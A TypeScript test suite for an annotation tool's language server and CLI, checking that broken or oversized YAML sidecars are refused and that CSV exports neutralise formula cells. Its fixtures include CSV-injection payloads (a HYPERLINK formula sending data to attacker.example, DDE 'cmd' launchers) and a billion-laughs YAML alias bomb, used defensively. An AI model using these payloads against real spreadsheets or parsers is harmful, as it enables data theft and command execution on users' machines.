// Faults of content: sidecars broken by hand or by a merge, sidecars and letters far larger than usual, and text that
// a spreadsheet would run as a formula. Broken files are reported and never written; large ones are refused with a
// message (or handled in linear time) without freezing anything; exported cells never start a formula.
import assert from 'node:assert/strict';
import { readFileSync, writeFileSync } from 'node:fs';
import type { Diagnostic } from 'vscode-languageserver-protocol/node';
import { createAnnotation, createSidecarText } from '../../server/src/engine/annotations';
import type { DocumentAnnotationsResult, ExportAnnotationsResult } from '../../server/src/protocol';
import { DocumentAnnotationsRequest, ExportAnnotationsRequest } from '../../server/src/protocol';
import { makeLetter } from '../unit/helpers/fixtures';
import { uriOf } from '../protocol/serverHarness';
import type { FaultCategory } from './harness';
import { assertAnswers, assertCleanEnd, assertUnchanged, cli, create, L000, PHRASES, sidecarOf, snapshot, validSidecarOf000, within, withServerOn, workspace } from './harness';

/** Ways a sidecar is broken, each applied to a valid sidecar of letter 000. */
const BROKEN: readonly [string, (valid: string) => string][] = [
	['merge-conflict markers', (valid) => valid.replace('  - id: kept01', '<<<<<<< HEAD\n  - id: kept01\n=======\n  - id: theirs1\n>>>>>>> theirs')],
	['a tab for indentation', (valid) => valid.replace('    tags: [fault]', '\ttags: [fault]')],
	['a duplicate key', (valid) => valid.replace('    tags: [fault]', '    tags: [fault]\n    tags: [again]')],
	['a half-written end (cut in the middle of a quote)', (valid) => valid.slice(0, valid.indexOf('exact: "') + 14)],
	['an unclosed flow sequence', (valid) => valid.replace('tags: [fault]', 'tags: [fault')],
	['an unknown key', (valid) => valid.replace('    tags: [fault]', '    tags: [fault]\n    colour: red')],
	['a position that is not a number', (valid) => valid.replace(/start: \d+/, 'start: twelve')],
	['an end before its start', (valid) => valid.replace(/end: \d+/, 'end: 0')],
	['two annotations with one id', (valid) => valid.replace('annotations:\n', 'annotations:\n  - id: kept01\n    target:\n      exact: x\n      start: 1\n      end: 2\n')],
	['version 2', (valid) => valid.replace('version: 1', 'version: 2')],
	['a list at the top', () => '- id: kept01\n- id: other\n'],
	['only a comment', () => '# annotations to come\n'],
	['an empty file', () => ''],
	['an alias bomb (billion laughs)', () => `a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]\n${Array.from({ length: 8 }, (_, i) => `${String.fromCharCode(98 + i)}: &${String.fromCharCode(98 + i)} [${Array(9).fill(`*${String.fromCharCode(97 + i)}`).join(',')}]`).join('\n')}\nversion: 1\n`],
	['a document that is a long plain string', () => `${'x'.repeat(200_000)}\n`],
];

/** A letter of about `bytes` whose body repeats references to other letters, in one sentence or many. */
function referenceLetter(bytes: number, oneSentence: boolean): string {
	const unit = oneSentence ? 'the letter dated 1 January 2020 from the Permanent Representative of Armenia, and ' : 'I refer to the letter dated 1 January 2020 from the Permanent Representative of Armenia. ';
	return makeLetter({ body: [unit.repeat(Math.ceil(bytes / unit.length))] });
}

/** A sidecar of `count` annotations of letter 000, written as text directly (fast for very many). */
function manyAnnotations(count: number): string {
	const lines = ['version: 1', 'document:', `  file: ${L000}`, 'annotations:'];
	for (let i = 0; i < count; i++) {
		lines.push(`  - id: n${i.toString(16).padStart(7, '0')}`, '    tags: [bulk, imported]', '    note: Imported from a spreadsheet of casualty figures, one row per incident, reviewed.', '    created: 2026-11-23T10:00:00Z', '    target:', '      exact: Armenia', '      prefix: "Permanent Representative of "', '      suffix: " to the United Nations addressed"', `      start: ${1000 + (i % 5000)}`, `      end: ${1007 + (i % 5000)}`, '');
	}
	return `${lines.join('\n')}\n`;
}

export const brokenSidecars: FaultCategory = {
	name: 'broken sidecars',
	async run(trial) {
		for (const [name, breakIt] of BROKEN) {
			await trial(`a sidecar with ${name}: reported, never written, the server goes on`, async () => {
				const folder = workspace();
				try {
					writeFileSync(sidecarOf(folder, L000), breakIt(validSidecarOf000(folder)));
					const before = snapshot(folder.path);
					await withServerOn(folder, async (server) => {
						await server.ready();
						await server.open(folder.file(L000));
						const listed = await within(30_000, 'the annotations list', server.connection.sendRequest<DocumentAnnotationsResult>(DocumentAnnotationsRequest.method, { textDocument: { uri: uriOf(folder.file(L000)) } }));
						assert.equal(listed.sidecarState, 'invalid');
						assert.ok(listed.problems.length > 0 && listed.problems.every((problem) => problem.message.length > 0));
						const refused = await within(30_000, 'the create', create(server, folder.file(L000), PHRASES[1]));
						assert.match(refused.ok ? '' : refused.message, /is not valid, so it was not changed: .+\. Correct it/);
						await server.waitFor('sidecar-invalid on the sidecar', () => server.published.get(uriOf(sidecarOf(folder, L000)))?.diagnostics.find((diagnostic: Diagnostic) => diagnostic.code === 'sidecar-invalid'));
						await assertAnswers(server, folder);
					});
					assertUnchanged(before);
					const run = await cli(folder.path, ['annotations', 'reanchor', '.', '--write']);
					assertCleanEnd(run, [1]);
					assertUnchanged(before);
				} finally {
					folder.dispose();
				}
			});
		}
	},
};

export const sizes: FaultCategory = {
	name: 'sizes',
	async run(trial) {
		await trial('a 50 MB sidecar with 150,000 annotations: refused at once with its size, the server answers on', async () => {
			const folder = workspace();
			try {
				writeFileSync(sidecarOf(folder, L000), manyAnnotations(150_000));
				const before = snapshot(folder.path);
				await withServerOn(folder, async (server) => {
					await server.ready();
					await server.open(folder.file(L000));
					const refused = await within(10_000, 'a create in the letter of the 50 MB sidecar', create(server, folder.file(L000), PHRASES[0]));
					assert.match(refused.ok ? '' : refused.message, /is larger than 1024 KB \(\d+ KB\)/);
					await within(10_000, 'a hover', assertAnswers(server, folder));
				});
				assertUnchanged(before);
				const run = await cli(folder.path, ['annotations', 'reanchor', '.'], 20_000);
				assertCleanEnd(run, [1]);
				assert.match(run.stderr, /is larger than 1024 KB/);
			} finally {
				folder.dispose();
			}
		});
		await trial('a sidecar just under its limit of 1 MB (2,500 annotations): a create lands', async () => {
			const folder = workspace();
			try {
				writeFileSync(sidecarOf(folder, L000), manyAnnotations(2500));
				await withServerOn(folder, async (server) => {
					await server.ready();
					await server.open(folder.file(L000));
					const created = await within(120_000, 'a create in a 1 MB sidecar', create(server, folder.file(L000), PHRASES[0]));
					assert.ok(created.ok, created.ok ? '' : created.message);
					await within(20_000, 'a hover', assertAnswers(server, folder));
				});
				const text = readFileSync(sidecarOf(folder, L000), 'utf8');
				assert.equal((text.match(/^ {2}- id: /gm) ?? []).length, 2501);
			} finally {
				folder.dispose();
			}
		});
		for (const oneSentence of [true, false]) {
			const shape = oneSentence ? 'one sentence' : 'sentences';
			await trial(`a 2 MB letter of repeated "the letter dated … from …" (${shape}): checked in linear time`, async () => {
				const folder = workspace();
				try {
					folder.write('references.txt', referenceLetter(2000 * 1024, oneSentence));
					const run = await cli(folder.path, ['check', 'references.txt', '--format', 'json'], 30_000);
					assertCleanEnd(run, [0, 1]);
					await withServerOn(folder, async (server) => {
						await server.ready();
						await server.open(folder.file('references.txt'));
						await within(30_000, 'the diagnostics of the 2 MB letter', server.diagnosticsOf(folder.file('references.txt')));
						await assertAnswers(server, folder);
					});
				} finally {
					folder.dispose();
				}
			});
		}
		await trial('a letter over the size limit: not read, named in the log, the rest indexed', async () => {
			const folder = workspace();
			try {
				folder.write('huge.txt', referenceLetter(2100 * 1024, false));
				await withServerOn(folder, async (server) => {
					assert.equal((await server.ready()).letters, 5);
					await server.waitFor('the log line', () => server.logMessages.find((message) => /huge\.txt is larger than 2048 KB/.test(message)));
				});
			} finally {
				folder.dispose();
			}
		});
	},
};

/** Text that a spreadsheet would run as a formula, as OWASP lists the dangerous first characters. */
const FORMULAS = ['=HYPERLINK("http://attacker.example/?"&A1,"Click")', '+cmd|\' /C calc\'!A0', '-2+3+cmd|\' /C calc\'!A0', '@SUM(1+1)*cmd|\' /C calc\'!A0', '\t=1+1', '\r=1+1'];

/** Asserts that no cell of a CSV text begins a formula. */
function assertNoFormulaCells(csv: string): void {
	const cells = csv.split('\r\n').flatMap((row) => row.split(/,(?=(?:[^"]*"[^"]*")*[^"]*$)/));
	for (const cell of cells) {
		const value = cell.startsWith('"') ? cell.slice(1, -1).replace(/""/g, '"') : cell;
		assert.doesNotMatch(value, /^[=+\-@\t\r](?!\d+$)/, `cell ${JSON.stringify(value)} would start a formula`);
	}
}

export const csvInjection: FaultCategory = {
	name: 'CSV formula cells',
	async run(trial) {
		const folder = workspace();
		try {
			const text = readFileSync(folder.file(L000), 'utf8');
			const at = text.indexOf(PHRASES[0]);
			const annotations = FORMULAS.flatMap((formula, i) => [
				createAnnotation(text, at, at + 10, { tags: [formula.replace(/\s/g, '_')], randomId: () => `tag${i}aaaa`, now: new Date('2026-11-23T10:00:00Z') })!,
				createAnnotation(text, at, at + 10, { note: formula, author: formula, randomId: () => `not${i}aaaa`, now: new Date('2026-11-23T10:00:00Z') })!,
			]);
			writeFileSync(sidecarOf(folder, L000), createSidecarText(L000, annotations));
			for (const [i, formula] of FORMULAS.entries()) {
				await trial(`a tag and a note starting ${JSON.stringify(formula.slice(0, 2))}: annotations export --format csv prefixes them`, async () => {
					const run = await cli(folder.path, ['annotations', 'export', '.', '--format', 'csv']);
					assertCleanEnd(run, [0]);
					assertNoFormulaCells(run.stdout);
					assert.ok(run.stdout.includes(`"'${formula.replace(/"/g, '""')}"`), `the note ${i} is kept, prefixed`);
				});
			}
			await withServerOn(folder, async (server) => {
				await server.ready();
				for (const formula of FORMULAS) {
					await trial(`a tag and a note starting ${JSON.stringify(formula.slice(0, 2))}: Export Annotations (CSV) in the editor prefixes them`, async () => {
						const exported = await server.connection.sendRequest<ExportAnnotationsResult>(ExportAnnotationsRequest.method, { format: 'csv' });
						const csv = exported.files[0]?.content ?? '';
						assertNoFormulaCells(csv);
						assert.ok(csv.includes(`"'${formula.replace(/"/g, '""')}"`));
					});
				}
			});
		} finally {
			folder.dispose();
		}
	},
};
